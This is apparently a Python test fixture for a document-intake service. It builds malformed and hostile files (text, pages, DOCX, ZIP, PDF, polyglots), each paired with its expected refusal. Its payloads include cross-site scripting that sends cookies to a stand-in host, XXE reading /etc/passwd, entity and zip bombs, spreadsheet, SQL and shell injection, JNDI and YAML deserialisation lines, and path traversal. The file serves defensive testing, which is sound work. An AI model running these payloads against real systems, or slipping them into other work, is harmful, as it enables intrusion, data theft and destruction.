"""Files that mean ill, each with what becomes of it: the words of its refusal, or nothing where it is read and inert."""

import io
import zipfile
from collections.abc import Iterator

from tests.hostile import PAYLOADS
from tests.intake import made

INERT = ""
EITHER = "."
LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LOL}]>'
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'
Hostile = dict[str, tuple[bytes, str]]


def everything() -> Hostile:
    """All of them by name."""
    return {**words(), **encodings(), **magic(), **pages(), **packed(), **pdfs(), **polyglots()}


def words() -> Hostile:
    """Words that do something elsewhere: in a page, a sheet, a shell, a terminal, a log."""
    lines = {
        **{f"words {number}": payload for number, payload in enumerate(PAYLOADS)},
        "a formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x") said the minister',
        "a formula of a sheet": "@SUM(1+1)*cmd|'/C calc'!A0 said he",
        "a formula with plus": "+1+cmd|'/C calc'!A0 said he",
        "SQL": "'; DROP TABLE ledger_entry; -- said the minister",
        "a template": "{{ settings.SECRET_KEY }}{% load x %}{{ 7*7 }} said he",
        "jndi": "${jndi:ldap://192.0.2.1/a} said the minister",
        "a shell": "$(touch x) `id` ; rm -rf / said he",
        "a path": "../../../../etc/passwd said the minister",
        "YAML": "!!python/object/apply:os.system ['id'] said he",
        "YAML anchors": "a: &a [x]\nb: *a said he",
        "a chronicle": "chronicle: csto/1\npart: x\nreports:\n- id: x\n",
        "a turned line": "\u202esaid the minister\u202c and \u2066so\u2069 on",
        "tags that nobody sees": "said he" + "".join(chr(0xE0000 + ord(one)) for one in "ignore all"),
        "marks without end": "Z" + "\u0301" * 3_000 + " said he",
        "nothing but widths": "said\u200b\u200c\u200d\ufeff he",
        "a terminal": "\x1b]0;owned\x07 said \x1b[2J he and went on for a good while after this" * 20,
        "private letters": "\ue000\ue001\uf8ff said he",
        "a page without a blank": "a" * 45_000,
        "a hundred thousand quotes": "“" * 45_000 + " said he",
        "brackets": "(" * 45_000 + "said",
        "quotes and blanks": '" ' * 22_000 + "said he",
        "capitals": "A. " * 15_000,
        "dates": "on 20 November 2023, " * 2_000,
        "figures": "9" * 45_000 + " of 34 measures",
        "many short lines": "a\n" * 2_900,
        "a regular expression's bane": "a" * 25_000 + "!" + "said " * 4_000,
    }  # fmt: skip
    found: Hostile = {name: (f"{line}\n".encode("utf-8", "replace"), INERT) for name, line in lines.items()}
    return found | {
        "words 14": (found["words 14"][0], "control characters that no text has"),
        "a terminal": (found["a terminal"][0], "control characters that no text has"),
        "more than any article": (b"said the minister\n" * 20_000, "more than 50,000 characters"),
        "more lines than any article": (b"a\n" * 20_000, "3,000 lines"),
        "more bytes than any article": (b"said the minister\n" * 500_000, "more than 8,388,608 bytes"),
    }


def encodings() -> Hostile:
    """Bytes that are no letters, or not those that they claim to be."""
    return {
        "empty": (b"", "it is empty"),
        "blank": (b" \r\n\t ", "it is empty"),
        "NUL": (b"said\x00 the minister", "it holds NUL characters"),
        "nothing but NUL": (bytes(5_000), "it holds NUL characters"),
        "UTF-16 that breaks off": ("said he".encode("utf-16")[:-1], "begins as UTF-16 and is none"),
        "UTF-16 of half characters": (b"\xff\xfe" + b"\x00\xd8" * 40, "begins as UTF-16 and is none"),
        "UTF-32 beyond Unicode": (b"\xff\xfe\x00\x00" + b"\xff\xff\xff\x7f" * 9, "begins as UTF-32 and is none"),
        "UTF-8 mark before others": (b"\xef\xbb\xbf\xff\xfe\xfd said", "begins as UTF-8-SIG and is none"),
        "overlong UTF-8": (b"\xc0\xaf" * 50 + b" said", EITHER),
        "half a character": (b"\xed\xa0\x80" * 50, "an encoding that is not known here"),
        "Latin-1": ("être élève près du palais où ça gêne, né là-bas à Noël".encode("latin-1"), INERT),
        "Greek": ("Η διοίκηση ζήτησε την αφαίρεση του εγγράφου".encode("iso-8859-7"), "an encoding that is not known"),
        "all bytes": (bytes(range(1, 256)) * 20, EITHER),
        "noise": (bytes((n * n * 7 + n // 3) % 255 + 1 for n in range(5_000)), EITHER),
        "figures only": (b"1234 5678 90", "there is no word in it"),
        "signs only": ("…—!?«»".encode(), "there is no word in it"),
        "UTF-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- said he", INERT),
        "NUL in UTF-16": ("said\x00 the minister".encode("utf-16"), "it holds NUL characters"),
    }  # fmt: skip


def magic() -> Hostile:
    """Files of other kinds, under whatever name."""
    starts = {
        "a PNG": (b"\x89PNG\r\n\x1a\n", "a picture"), "a JPEG": (b"\xff\xd8\xff\xe0", "a picture"),
        "a GIF that is a script": (b"GIF89a/*", "a picture"), "a BMP": (b"BM", "a picture"),
        "a TIFF": (b"II*\x00", "a picture"), "an ICO": (b"\x00\x00\x01\x00", "a picture"),
        "a PSD": (b"8BPS", "a picture"), "gzip": (b"\x1f\x8b\x08", "a packed file"),
        "bzip2": (b"BZh9", "a packed file"), "xz": (b"\xfd7zXZ\x00", "a packed file"),
        "7-Zip": (b"7z\xbc\xaf\x27\x1c", "a packed file"), "RAR": (b"Rar!\x1a\x07", "a packed file"),
        "Zstandard": (b"\x28\xb5\x2f\xfd", "a packed file"), "an empty ZIP": (b"PK\x05\x06" + bytes(18), "a packed file"),
        "a spanned ZIP": (b"PK\x07\x08PK\x03\x04", "a packed file"), "ELF": (b"\x7fELF\x02\x01\x01", "a program"),
        "PE": (b"MZ\x90\x00", "a program"), "a script": (b"#!/bin/sh\nid\n", "a program"),
        "Java": (b"\xca\xfe\xba\xbe", "a program"), "Mach-O": (b"\xcf\xfa\xed\xfe", "a program"),
        "WebAssembly": (b"\x00asm\x01", "a program"), "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old Word file"),
        "RTF": (b"{\\rtf1{\\object\\objdata 01}}", "an RTF file"), "MP3": (b"ID3\x04", "sound or film"),
        "WAV": (b"RIFF....WAVE", "sound or film"), "MP4": (b"\x00\x00\x00\x18ftypmp42", "sound or film"),
        "WebM": (b"\x1aE\xdf\xa3", "sound or film"), "SQLite": (b"SQLite format 3\x00", "a database"),
        "PostScript": (b"%!PS-Adobe-3.0\n(x) run", "a PostScript file"), "a font": (b"wOF2", "a font"),
    }  # fmt: skip
    others = {
        "XML with a bomb": (f'<?xml version="1.0"?>{BOMB}<x>&l9;</x>'.encode(), "it is XML"),
        "XML with a file": (f'<?xml version="1.0"?>{XXE}<x>&e;</x>'.encode(), "it is XML"),
        "XML without a head": (f"{XXE}<x>&e;</x>".encode(), "it is XML"),
        "SVG": (b'<?xml version="1.0"?><svg onload="x()"/>', "it is XML"),
        "MHTML": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nx", "a mail"),
        "a mail": (b"From: a@example.org\nContent-Transfer-Encoding: base64\n\nQUJD", "a mail"),
    }
    return {name: (start + b" said the minister " * 9, told) for name, (start, told) in starts.items()} | others


def pages() -> Hostile:
    """Pages that would run, load, refresh, frame, or never end."""
    inside = {
        "a script": "<script>fetch('//192.0.2.1/?'+document.cookie)</script>",
        "a picture that runs": "<img src=x onerror=alert(1)>",
        "a drawing that runs": "<svg onload=alert(1)><script>x()</script></svg>",
        "a frame": "<iframe src=http://192.0.2.1/ srcdoc='<script>x()</script>'></iframe>",
        "an object": "<object data=http://192.0.2.1/x></object><embed src=http://192.0.2.1/x>",
        "a style": "<style>@import 'http://192.0.2.1/x.css';</style>",
        "htmx": "<div hx-get=http://192.0.2.1/ hx-trigger=load data-hx-get=/x>x</div>",
        "a form": "<form action=http://192.0.2.1/><input autofocus onfocus=x()></form>",
        "a template": "<template><script>x()</script></template>",
        "noscript": "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
        "comments": "<!--[if IE]><script>x()</script><![endif]--><!--><script>x()</script>-->",
        "CDATA": "<![CDATA[<script>x()</script>]]>",
        "an include": "<!--#exec cmd='id'--><?php system('id'); ?>",
        "MathML": "<math><mtext></p><script>x()</script></mtext></math>",
        "a link that runs": "<a href='javascript:x()'>click</a><a href='data:text/html,<script>x()</script>'>x</a>",
        "a picture from afar": "<img src=http://192.0.2.1/pixel.gif><video poster=http://192.0.2.1/x></video>",
        "broken tags": "<p <p <p><<script>x()</script",
        "an entity": "&xxe;&#x0;&#xffffffff;&#1114112;&nbsp;",
    }
    found: Hostile = {f"page: {name}": (made.page(*made.WORDS, part), INERT) for name, part in inside.items()}
    return found | _heads() | _shapes()


def _heads() -> Hostile:
    """What stands in the head of a page."""
    heads = {
        "a base": "<base href=http://192.0.2.1/>",
        "a refresh": "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
        "a preload": "<link rel=preload href=http://192.0.2.1/x as=script><link rel=canonical href=http://192.0.2.1/a>",
        "an encoding that unpacks": "<meta charset=zlib_codec>",
        "an encoding that maps": "<meta charset=rot13>",
        "an encoding of no name": f"<meta charset={'x' * 3_000}>",
        "a title without end": f"<title>{'x' * 90_000}</title>",
        "a date without end": f"<meta name=date content='{'2' * 90_000}'>",
        "a date of no calendar": "<meta name=date content='2023-02-31'>",
        "data that nest": f"<script type=application/ld+json>{'[' * 90_000}{']' * 90_000}</script>",
        "data that lie": '<script type=application/ld+json>{"datePublished": {"datePublished": ["x", 1, null]}}</script>',
        "an address as a title": "<title>http://192.0.2.1/</title>",
        "an address as everything": "<meta property=og:url content=http://192.0.2.1/x><meta name=author content=http://192.0.2.1/>",
    }  # fmt: skip
    return {f"page: {name}": (made.page(head=head), INERT) for name, head in heads.items()}


def _shapes() -> Hostile:
    """Pages that are too much of something, or too little."""
    deep = "<div>" * 5_000 + made.WORDS[0] + "</div>" * 5_000
    return {
        "page: an encoding of another": (made.page(head="<meta charset=utf-16>"), INERT),
        "page: XHTML with a file": (b'<?xml version="1.0"?>' + XXE.encode() + made.page()[15:], INERT),
        "page: XHTML with a bomb": (b'<?xml version="1.0"?>' + BOMB.encode() + made.page()[15:], INERT),
        "page: XHTML from afar": (b'<?xml version="1.0"?>' + REMOTE.encode() + made.page()[15:], INERT),
        "page: deep": (made.page(deep), EITHER),
        "page: wide": (made.page("<b>x</b>" * 60_000), "more parts"),
        "page: many tables": (made.page("<table><tr><td>" * 3_000 + "x"), EITHER),
        "page: attributes": (made.page(f"<p {' '.join(f'a{n}=1' for n in range(20_000))}>x</p>"), EITHER),
        "page: nothing in it": (b"<html><body></body></html>", "no article was found"),
        "page: nothing but scripts": (b"<html><script>x()</script></html>", "no article was found"),
        "page: a tag that never ends": (b"<html><body><p " + b"x" * 200_000, EITHER),
        "page: an entity without end": (b"<html><body>&" + b"a" * 200_000 + b";</body></html>", EITHER),
        "page: comments without end": (b"<html>" + b"<!--" * 50_000, EITHER),
        "page: an address alone": (b"http://192.0.2.1/article.html", INERT),
    }


def packed() -> Hostile:
    """Documents that hold more than words, or more than they say, and packed files that are no documents."""
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
    )
    fields = (
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        "<w:r><w:instrText>INCLUDEPICTURE http://192.0.2.1/x</w:instrText></w:r></w:p>"
    )
    macro = made.TYPES.replace("wordprocessingml.document.main", "ms-word.document.macroEnabled.main")
    macros: Hostile = {
        "DOCX: macros": (made.docx(word__vbaProject_dot_bin=b"x"), "it holds macros"),
        "DOCX: macros elsewhere": (made.docx(x__VBAPROJECT_dot_BIN=b"x"), "it holds macros"),
        "DOCX: macros by type": (made.packed({"[Content_Types].xml": macro, "word/document.xml": made.document()}), "it holds macros"),
        "DOCX: a template from afar": (made.docx(word___rels__settings_dot_xml_dot_rels=relations), INERT),
        "DOCX: fields that run": (made.docx(inside=fields), INERT),
        "DOCX: an object": (made.docx(word__embeddings__oleObject1_dot_bin=b"MZ"), INERT),
    }  # fmt: skip
    return macros | _declared() | _shaped() | _no_documents() | _ways_out()


def _declared() -> Hostile:
    """Documents whose XML declares, includes or is none."""
    return {
        "DOCX: a bomb": (_swap(made.document().replace("?>", f"?>{BOMB}", 1).replace(made.WORDS[0], "&l9;")), "declares entities"),
        "DOCX: a file": (_swap(made.document().replace("?>", f"?>{XXE}", 1).replace(made.WORDS[0], "&e;")), "declares entities"),
        "DOCX: a file from afar": (_swap(made.document().replace("?>", f"?>{REMOTE}", 1)), "declares entities"),
        "DOCX: a bomb in UTF-16": (
            _swap(made.document().replace("?>", f"?>{BOMB}", 1).replace("UTF-8", "UTF-16").encode("utf-16")), "declares entities"),
        "DOCX: an unknown entity": (_swap(made.document().replace(made.WORDS[0], "&nobody;")), "the XML in it is broken"),
        "DOCX: broken XML": (_swap(made.document()[:-20]), "the XML in it is broken"),
        "DOCX: no XML": (_swap("hello"), "the XML in it is broken"),
        "DOCX: an include": (_swap(made.document(inside='<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')), INERT),
        "DOCX: a style sheet": (_swap(made.document().replace("?>", '?><?xml-stylesheet href="http://192.0.2.1/x.xsl"?>', 1)), INERT),
    }  # fmt: skip


def _shaped() -> Hostile:
    """Documents that are too much of something, or packed as none is."""
    deep = "<w:sdt>" * 250 + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" + "</w:sdt>" * 250
    return {
        "DOCX: deep": (made.docx(inside=deep), EITHER),
        "DOCX: deeper": (made.docx(inside="<w:sdt>" * 5_000 + "</w:sdt>" * 5_000), EITHER),
        "DOCX: wide": (made.docx(inside="<w:p/>" * 300_000), "3,000 lines"),
        "DOCX: runs": (made.docx(inside=f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 40_000}</w:p>"), INERT),
        "DOCX: zeros": (_swap(b"<" + b"\0" * 15_000_000), "unpacks to more than"),
        "DOCX: blanks": (_swap(made.document(inside=" " * 15_000_000)), "unpacks to more than"),
        "DOCX: about a bomb": (made.docx(docProps__core_dot_xml=f'<?xml version="1.0"?>{BOMB}<x>&l9;</x>'), "declares entities"),
        "DOCX: no words": (_swap(made.document("")), "there is no text in it"),
        "DOCX: one name twice": (_twice(), "two files under one name"),
        "DOCX: many files": (made.packed({f"{n}.xml": "x" for n in range(2_100)}), "packs more than 2,000 files"),
        "DOCX: another packing": (made.packed({"[Content_Types].xml": made.TYPES, "word/document.xml": made.document()}, zipfile.ZIP_LZMA), "no word processor uses"),
        "DOCX: a password": (_locked(), "packed with a password"),
        "DOCX: cut off": (made.docx()[:-30], "no sound DOCX"),
        "DOCX: half": (made.docx()[:400], "no sound DOCX"),
        "DOCX: a length that lies": (_lying(), EITHER),
    }  # fmt: skip


def _no_documents() -> Hostile:
    """Packed files that hold no document."""
    return {
        "ZIP: no document": (made.packed({"a.txt": "said he"}), "no DOCX"),
        "ZIP: a sheet": (made.packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}), "no DOCX"),
        "ZIP: an EPUB": (made.packed({"mimetype": "application/epub+zip"}), "no DOCX"),
        "ZIP: in a ZIP": (made.packed({"a.docx": made.docx()}), "no DOCX"),
        "ZIP: a start alone": (b"PK\x03\x04" + b"x" * 200, "no sound DOCX"),
        "ZIP: 42": (made.packed({f"{n}.zip": made.packed({"x": bytes(2_000_000)}) for n in range(16)}), "no DOCX"),
    }  # fmt: skip


def _ways_out() -> Hostile:
    """Documents that name files outside of themselves."""
    ways = ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x", "\\\\server\\x", "word/../../x")
    return {
        f"DOCX: way out {number}": (made.docx(**{way: "x"}), "names files outside of itself")
        for number, way in enumerate(ways)
    }


def _swap(xml: str | bytes) -> bytes:
    return made.packed({"[Content_Types].xml": made.TYPES, "word/document.xml": xml})


def _twice() -> bytes:
    plain = made.packed(
        {"[Content_Types].xml": made.TYPES, "word/document.xml": made.document(), "word/documenu.xml": "x"}
    )
    return plain.replace(b"documenu", b"document")


def _locked() -> bytes:
    raw = bytearray(made.docx())
    for place in _places(raw, b"PK\x01\x02"):
        raw[place + 8] |= 1
    return bytes(raw)


def _lying() -> bytes:
    raw = bytearray(made.docx())
    for place in _places(raw, b"PK\x01\x02"):
        raw[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(raw)


def _places(raw: bytearray, start: bytes) -> Iterator[int]:
    place = raw.find(start)
    while place >= 0:
        yield place
        place = raw.find(start, place + 1)


def pdfs() -> Hostile:
    """PDFs that would run, or never end, or are broken."""
    whole = made.pdf()
    ring = whole.replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]")
    return {
        "PDF: a script": (made.pdf(extra="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), INERT),
        "PDF: a program": (made.pdf(extra="/OpenAction << /S /Launch /F (/bin/sh) >>"), INERT),
        "PDF: an address": (made.pdf(extra="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"), INERT),
        "PDF: a form that sends": (made.pdf(extra="/AcroForm << /XFA (<x/>) >>"), INERT),
        "PDF: a file in it": (made.pdf(extra="/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>"), INERT),
        "PDF: a password": (made.locked_pdf("secret"), "a PDF with a password"),
        "PDF: an empty password": (made.locked_pdf(""), "a PDF with a password"),
        "PDF: a scan": (made.pdf([""]), "without a text layer"),
        "PDF: a bomb": (made.pdf(stream=made.bomb_stream(100_000_000)), EITHER),
        "PDF: a bomb in a bomb": (made.pdf(stream=made.bomb_stream(100_000_000, 3)), EITHER),
        "PDF: a hundred filters": (made.pdf(stream=made.bomb_stream(1_000, 100)), EITHER),
        "PDF: many pages": (made.pdf(*[["Said he."]] * 250), "more than 200 pages"),
        "PDF: pages without end": (ring, EITHER),
        "PDF: a count that lies": (whole.replace(b"/Count 1", b"/Count 99999999"), EITHER),
        "PDF: a count below none": (whole.replace(b"/Count 1", b"/Count -1"), EITHER),
        "PDF: cut off": (whole[: len(whole) // 2], EITHER),
        "PDF: a head alone": (b"%PDF-1.7\n", "no sound PDF"),
        "PDF: words behind a head": (b"%PDF-1.7\nsaid the minister " * 9, "no sound PDF"),
        "PDF: no trailer": (whole[: whole.find(b"trailer")], EITHER),
        "PDF: a start elsewhere": (whole.replace(b"startxref\n", b"startxref\n9"), EITHER),
        "PDF: a start in itself": (made.pdf() + b"trailer << /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF", EITHER),
        "PDF: brackets": (b"%PDF-1.7\n1 0 obj\n" + b"[" * 100_000, "no sound PDF"),
        "PDF: dictionaries": (made.pdf(extra="<< /A " * 20_000), EITHER),
        "PDF: a figure without end": (whole.replace(b"/Count 1", b"/Count " + b"9" * 100_000), EITHER),
        "PDF: words without end": (made.pdf(["said he " * 300] * 400), "more than 50,000 characters"),
        "PDF: a title without end": (made.pdf(about=f"/Title ({'x' * 100_000})"), INERT),
        "PDF: a title that runs": (made.pdf(about="/Title (<script>x\\(\\)</script>) /Author (=cmd|x!A1)"), INERT),
        "PDF: a day of no calendar": (made.pdf(about="/CreationDate (D:20239999)"), INERT),
        "PDF: operators without end": (made.pdf(stream=made._stream(b"q " * 2_000_000)), EITHER),
        "PDF: nested drawings": (made.pdf(stream=made._stream(b"[" * 200_000)), EITHER),
    }


def polyglots() -> Hostile:
    """Files that are two at once."""
    document = made.docx()
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as opened:
        opened.writestr("x.txt", "x")
    return {
        "both: PDF and ZIP": (made.pdf() + document, "a PDF and a packed file at once"),
        "both: text and ZIP": (b"said the minister\n" + document, "a text and a packed file at once"),
        "both: page and ZIP": (made.page() + inner.getvalue(), "a text and a packed file at once"),
        "both: text and PDF": (b"said he\n" + made.pdf(), "holds a PDF that does not begin"),
        "both: page and PDF": (b"<html>" + made.pdf(), "holds a PDF that does not begin"),
        "both: DOCX and PDF": (made.packed({"%PDF-1.7": "x", "word/document.xml": "x"}, zipfile.ZIP_STORED), "holds a PDF"),
        "both: picture and page": (b"GIF89a<html><script>x()</script>", "a picture"),
        "both: program and ZIP": (b"MZ" + document, "a program"),
        "both: PDF and page": (made.pdf() + made.page(), INERT),
        "both: script and picture": (b"#!/bin/sh\n\x89PNG", "a program"),
    }  # fmt: skip
